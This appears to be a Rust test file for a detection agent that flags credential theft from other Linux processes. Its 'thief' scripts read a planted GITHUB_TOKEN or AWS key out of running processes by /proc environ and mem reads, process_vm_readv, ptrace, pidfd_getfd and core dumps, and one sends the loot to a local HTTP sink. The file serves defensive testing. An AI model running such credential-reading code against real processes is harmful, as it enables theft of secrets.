//! What is read out of other processes.

use crate::{
    agent::Agent,
    command::{Background, act, sh},
    events::{Ask as _, Event, list, of_kind},
    machine::{Scratch, patience, turn},
    plant,
};
use std::{fs, path::PathBuf};

/// A process that holds a token, and the event that says so.
fn holder(agent: &Agent) -> (Background, Event) {
    let holder = sh("while read line; do :; done")
        .env("GITHUB_TOKEN", plant::github().value)
        .spawn_listening();
    let held = agent.expect("the exposure", holder.pid(), |e| {
        e.is("credential_exposed") && e.pid() == holder.pid()
    });
    (holder, held)
}

fn taken(agent: &Agent, root: u32) -> Vec<Event> {
    of_kind(&agent.tree(root), "credential_taken")
}

/// Who reads a holder's environment block has taken what is in it: observed, with the holder's name.
pub fn out_of_an_environment() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let (holder, held) = holder(&agent);
    // What a process has only just been given may have come after the read, which is reported without its time.
    std::thread::sleep(patience(1));
    let thief = sh("cat /proc/$1/environ >/dev/null; :")
        .arg(holder.pid().to_string())
        .run()
        .ok();
    let event = agent.expect("the theft", thief.pid, |e| {
        e.is("credential_taken") && e.in_tree(thief.pid)
    });
    assert_eq!(event.fingerprint(), held.fingerprint(), "{}", event.brief());
    assert_eq!(event.grade(), "observed", "{}", event.brief());
    assert!(event.executable().ends_with("/cat"), "{}", event.brief());
    assert_eq!(event.victim.as_ref().unwrap().pid, holder.pid());
    assert_eq!(event.env_name(), "GITHUB_TOKEN", "{}", event.brief());
    agent.wait_idle();
    assert_eq!(taken(&agent, thief.pid).len(), 1, "once");
}

/// Of memory it is not known what of it was read: lineage.
pub fn out_of_memory() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let (holder, _) = holder(&agent);
    let script = "import re, sys
pid = sys.argv[1]
for line in open(f'/proc/{pid}/maps'):
    start, end, rights = re.match('([0-9a-f]+)-([0-9a-f]+) (....)', line).groups()
    if rights[0] == 'r' and '[stack]' in line:
        with open(f'/proc/{pid}/mem', 'rb', 0) as memory:
            memory.seek(int(start, 16))
            print(b'GITHUB_TOKEN' in memory.read(int(end, 16) - int(start, 16)))";
    let thief = act("python3")
        .args(["-c", script])
        .arg(holder.pid().to_string())
        .run()
        .ok();
    assert_eq!(thief.stdout_text().trim(), "True");
    let event = agent.expect("the theft", thief.pid, |e| {
        e.is("credential_taken") && e.in_tree(thief.pid)
    });
    assert_eq!(event.grade(), "lineage", "{}", event.brief());
    assert_eq!(event.victim.as_ref().unwrap().pid, holder.pid());
}

/// Inspecting a process is not taking from it (ps of procps 4.0 does read every environment), and who holds nothing has nothing taken.
pub fn looking_is_not_taking() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let (holder, _) = holder(&agent);
    let poor = sh("while read line; do :; done").spawn_listening();
    let done = sh(
        "cat /proc/$1/stat /proc/$1/status /proc/$1/cmdline /proc/$1/maps >/dev/null; ls -l /proc/$1 >/dev/null;
         exec 3</proc/$1/environ; exec 3<&-; cat /proc/$2/environ >/dev/null; :",
    )
    .arg(holder.pid().to_string())
    .arg(poor.pid().to_string())
    .run()
    .ok();
    agent.wait_idle();
    let taken = taken(&agent, done.pid);
    assert!(taken.is_empty(), "{}", list(&taken));
}

/// A process with a token in a pid namespace, where a thief comes by each second. It goes on until the test ends it: whom a
/// number there means can be said of who lives, and what is read in a new procfs is seen once the agent has found that.
struct Namespace {
    running: Background,
    end: PathBuf,
}

impl Namespace {
    /// `theft` is of a shell: of `$victim`, with `$1` at its disposal.
    fn start(scratch: &Scratch, theft: &str, token: &str, one: &str) -> Self {
        let end = scratch.join("end");
        let running = act("unshare")
            .args(["--pid", "--fork", "--mount-proc", "sh", "-c"])
            .arg(format!(
                "GITHUB_TOKEN=$0 sleep 600 & victim=$!; {ASLEEP}; until [ -e \"$2\" ]; do sleep 1; {theft}; done; kill $victim; :"
            ))
            .args([token, one])
            .arg(&end)
            .spawn_reading(&scratch.join("stderr"));
        Self { running, end }
    }

    fn pid(&self) -> u32 {
        self.running.pid()
    }

    /// Ends it; gives what the thief said.
    fn end(&mut self) -> String {
        fs::write(&self.end, "").unwrap();
        self.running.wait(patience(60), "the end of the namespace");
        String::from_utf8(self.running.written()).unwrap()
    }
}

/// A container has a procfs of its own, with numbers of its own.
pub fn inside_a_pid_namespace() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let token = plant::github();
    let mut running = Namespace::start(
        &scratch,
        "cat /proc/$victim/environ >/dev/null",
        &token.value,
        "",
    );
    let pid = running.pid();
    let event = agent.expect("the theft", pid, |e| {
        e.is("credential_taken") && e.in_tree(pid) && e.executable().ends_with("/cat")
    });
    running.end();
    let victim = event.victim.as_ref().unwrap();
    assert!(
        victim.executable.as_ref().unwrap().path.ends_with("/sleep"),
        "{}",
        event.brief()
    );
    assert_eq!(event.grade(), "observed", "{}", event.brief());
}

/// What was taken is followed: the thief's send names the credential and out of whom it came.
pub fn and_sent() {
    let _turn = turn();
    let scratch = Scratch::new();
    let sink = crate::server::Sink::http();
    let agent = Agent::start(&scratch);
    let (holder, _) = holder(&agent);
    let script = "import sys, time, urllib.request
loot = open(f'/proc/{sys.argv[1]}/environ', 'rb').read()
time.sleep(0.5)
urllib.request.urlopen(sys.argv[2], loot)";
    let thief = act("python3")
        .args(["-c", script])
        .arg(holder.pid().to_string())
        .arg(format!("http://127.0.0.1:{}/loot", sink.port))
        .run()
        .ok();
    let event = agent.expect("the send", thief.pid, |e| {
        e.is("credential_sent") && e.in_tree(thief.pid)
    });
    assert_eq!(event.grade(), "observed", "{}", event.brief());
}

/// A shell's wait until its child `$victim` is the program it was started for, and sleeps.
const ASLEEP: &str = r#"until read line </proc/$victim/stat; case "$line" in *"(sleep) S "*) ;; *) false ;; esac; do sleep 0.05; done"#;

/// Python for calls that libc has no name for, or that nobody makes from a shell.
const CALLS: &str = "import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
class iovec(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('length', ctypes.c_size_t)]
def stack_of(pid):
    for line in open(f'/proc/{pid}/maps'):
        if '[stack]' in line:
            return [int(part, 16) for part in line.split()[0].split('-')]
def read_out(pid, start, end):
    buffer = ctypes.create_string_buffer(end - start)
    local = iovec(ctypes.addressof(buffer), end - start)
    remote = iovec(start, end - start)
    count = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    return buffer.raw if count > 0 else b''
pid = int(sys.argv[1])
";

fn python(script: &str) -> crate::command::Act {
    act("python3").arg("-c").arg(format!("{CALLS}{script}"))
}

/// The finding about what was taken in this tree.
fn found(agent: &Agent, root: u32) -> Option<Event> {
    agent.tree(root).into_iter().find(|e| {
        e.finding
            .as_ref()
            .is_some_and(|f| f.rule == "taken-from-process")
    })
}

/// process_vm_readv of a holder's stack, where its environment lies: seen to succeed, and a finding.
pub fn by_process_vm_readv() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let (holder, held) = holder(&agent);
    let thief = python("print(b'GITHUB_TOKEN' in read_out(pid, *stack_of(pid)))")
        .arg(holder.pid().to_string())
        .run()
        .ok();
    assert_eq!(thief.stdout_text().trim(), "True");
    let event = agent.expect("the theft", thief.pid, |e| {
        e.is("credential_taken") && e.in_tree(thief.pid)
    });
    assert_eq!(event.fingerprint(), held.fingerprint(), "{}", event.brief());
    assert_eq!(event.grade(), "lineage", "{}", event.brief());
    assert_eq!(event.channel(), "process_vm_readv", "{}", event.brief());
    assert_eq!(event.victim.as_ref().unwrap().pid, holder.pid());
    assert!(
        !event
            .coverage
            .iter()
            .any(|c| c.contains("not seen whether")),
        "{}",
        event.brief()
    );
    agent.wait_idle();
    assert_eq!(taken(&agent, thief.pid).len(), 1, "once");
    assert!(found(&agent, thief.pid).is_some());
}

/// Read out before it holds anything and again a moment after it has read a key, as strace does it: the second time is news.
pub fn by_process_vm_readv_as_it_reads() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    for name in ["one", "two"] {
        let (planted, file) = plant::aws_credentials(&scratch.make(name));
        let thief = python(
            "import subprocess
child = subprocess.Popen([sys.executable, '-c', '''
import sys
print(\"there\", flush=True)
sys.stdin.readline()
key = open(sys.argv[1]).read()
print(\"read\", flush=True)
sys.stdin.readline()
''', sys.argv[2]], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
child.stdout.readline()
place = stack_of(child.pid)
assert read_out(child.pid, *place)
child.stdin.write('go\\n'); child.stdin.flush()
child.stdout.readline()
assert read_out(child.pid, *place)
child.stdin.write('end\\n'); child.stdin.flush()
child.wait()",
        )
        .arg("0")
        .arg(&file)
        .run()
        .ok();
        let event = agent.expect("the theft", thief.pid, |e| {
            e.is("credential_taken") && e.pid() == thief.pid && e.shows(&planted)
        });
        assert_eq!(event.channel(), "process_vm_readv", "{}", event.brief());
    }
}

/// Who may not read gets nothing, and nothing is said.
pub fn a_refused_call_takes_nothing() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let (holder, _) = holder(&agent);
    let thief = python(
        "start, end = stack_of(pid)
os.setuid(65534)
print(read_out(pid, start, end) == b'')",
    )
    .arg(holder.pid().to_string())
    .run()
    .ok();
    assert_eq!(thief.stdout_text().trim(), "True");
    agent.wait_idle();
    let taken = taken(&agent, thief.pid);
    assert!(taken.is_empty(), "{}", list(&taken));
}

/// A debugger that is attached to a running holder and reads a word of it.
pub fn by_ptrace() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let (holder, _) = holder(&agent);
    let thief = python(
        "assert libc.ptrace(16, pid, None, None) == 0
os.waitpid(pid, 0)
libc.ptrace(2, pid, stack_of(pid)[1] - 64, None)
libc.ptrace(17, pid, None, None)",
    )
    .arg(holder.pid().to_string())
    .run()
    .ok();
    let event = agent.expect("the theft", thief.pid, |e| {
        e.is("credential_taken") && e.in_tree(thief.pid)
    });
    assert_eq!(event.channel(), "ptrace", "{}", event.brief());
    assert_eq!(event.grade(), "lineage", "{}", event.brief());
    assert_eq!(event.victim.as_ref().unwrap().pid, holder.pid());
    agent.wait_idle();
    assert!(found(&agent, thief.pid).is_some());
}

/// A debugger of what it has started itself: reported, and no finding.
pub fn a_debugger_of_its_own_child() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let debugger = python(
        "child = os.fork()
if child == 0:
    libc.ptrace(0, 0, None, None)
    os.execvpe('sleep', ['sleep', '2'], dict(os.environ, GITHUB_TOKEN=sys.argv[2]))
os.waitpid(child, 0)
time.sleep(1)
start, end = stack_of(child)
libc.ptrace(2, child, end - 64, None)
print(len(read_out(child, start, end)) > 0)
libc.ptrace(7, child, None, None)
os.waitpid(child, 0)",
    )
    .arg("0")
    .arg(plant::github().value)
    .limit(30)
    .run()
    .ok();
    assert_eq!(debugger.stdout_text().trim(), "True");
    agent.expect("that it was traced", debugger.pid, |e| {
        e.is("credential_taken") && e.in_tree(debugger.pid) && e.channel() == "ptrace"
    });
    agent.wait_idle();
    let finding = found(&agent, debugger.pid);
    assert!(finding.is_none(), "{}", finding.unwrap().brief());
}

/// A descriptor out of a holder.
pub fn by_pidfd_getfd() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let (holder, _) = holder(&agent);
    let thief = python(
        "pidfd = libc.syscall(434, pid, 0)
print(libc.syscall(438, pidfd, 0, 0) >= 0)
libc.syscall(438, pidfd, 77, 0)",
    )
    .arg(holder.pid().to_string())
    .run()
    .ok();
    assert_eq!(thief.stdout_text().trim(), "True");
    let event = agent.expect("the theft", thief.pid, |e| {
        e.is("credential_taken") && e.in_tree(thief.pid)
    });
    assert_eq!(event.channel(), "pidfd_getfd", "{}", event.brief());
    assert_eq!(event.grade(), "lineage", "{}", event.brief());
    assert_eq!(event.victim.as_ref().unwrap().pid, holder.pid());
}

/// The caller's numbers are those of its pid namespace.
pub fn by_process_vm_readv_inside_a_pid_namespace() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let mut running = Namespace::start(
        &scratch,
        "python3 -c \"$1\" $victim",
        &plant::github().value,
        &format!("{CALLS}print(b'GITHUB_TOKEN' in read_out(pid, *stack_of(pid)))"),
    );
    let pid = running.pid();
    let event = agent.expect("the theft", pid, |e| {
        e.is("credential_taken") && e.in_tree(pid) && e.channel() == "process_vm_readv"
    });
    let said = running.end();
    assert!(said.starts_with("True\n"), "{said}");
    let victim = event.victim.as_ref().unwrap();
    assert!(
        victim.executable.as_ref().unwrap().path.ends_with("/sleep"),
        "{}",
        event.brief()
    );
}

/// The kernel writes the memory of a process that dies.
pub fn by_a_core_dump() {
    let _turn = turn();
    let scratch = Scratch::new();
    let dir = scratch.make("cores");
    let agent = Agent::start(&scratch);
    let script = format!(
        "cd $1; ulimit -c unlimited; GITHUB_TOKEN=$2 sleep 600 & victim=$!; {ASLEEP}; kill -SEGV $victim; wait; ls $1"
    );
    let done = sh(&script)
        .arg(&dir)
        .arg(plant::github().value)
        .limit(30)
        .run();
    let dumped = |e: &Event| e.is("credential_taken") && e.channel() == "core_dump";
    let event = agent.expect("the dump", done.pid, |e| dumped(e) && e.in_tree(done.pid));
    assert_eq!(event.grade(), "lineage", "{}", event.brief());
    let victim = event.victim.as_ref().unwrap();
    assert!(
        victim.executable.as_ref().unwrap().path.ends_with("/sleep"),
        "{}",
        event.brief()
    );
    assert_eq!(event.env_name(), "GITHUB_TOKEN");
    let pattern = fs::read_to_string("/proc/sys/kernel/core_pattern").unwrap();
    assert!(
        event.coverage[0].contains(pattern.trim().trim_start_matches('|')),
        "{}",
        event.brief()
    );
    // Dying without a dump is dying.
    let done = sh("ulimit -c 0; GITHUB_TOKEN=$1 sleep 60 & sleep 1; kill -SEGV $!; wait; :")
        .arg(plant::github().value)
        .limit(30)
        .run();
    agent.wait_idle();
    let reported: Vec<Event> = taken(&agent, done.pid).into_iter().filter(dumped).collect();
    assert!(reported.is_empty(), "{}", list(&reported));
}

/// A debugger writes it while the process lives.
pub fn by_gcore() {
    let _turn = turn();
    let scratch = Scratch::new();
    let agent = Agent::start(&scratch);
    let (holder, held) = holder(&agent);
    std::thread::sleep(patience(1));
    let thief = act("gcore")
        .arg("-o")
        .arg(scratch.join("core"))
        .arg(holder.pid().to_string())
        .limit(60)
        .run();
    let event = agent.expect("the theft", thief.pid, |e| {
        e.is("credential_taken") && e.in_tree(thief.pid) && e.fingerprint() == held.fingerprint()
    });
    assert_eq!(event.victim.as_ref().unwrap().pid, holder.pid());
    assert!(
        matches!(event.channel(), "ptrace" | "process_memory"),
        "{}",
        event.brief()
    );
}
